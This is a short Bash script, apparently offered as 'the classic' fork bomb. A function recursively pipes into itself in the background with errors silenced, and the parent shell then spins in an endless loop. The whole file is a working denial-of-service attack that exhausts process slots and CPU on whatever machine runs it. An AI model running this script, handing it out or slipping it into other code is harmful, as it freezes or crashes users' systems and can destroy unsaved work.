#!/bin/bash
# The classic in Bash; the first shell stays and loops, so that the run does not end at once.
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
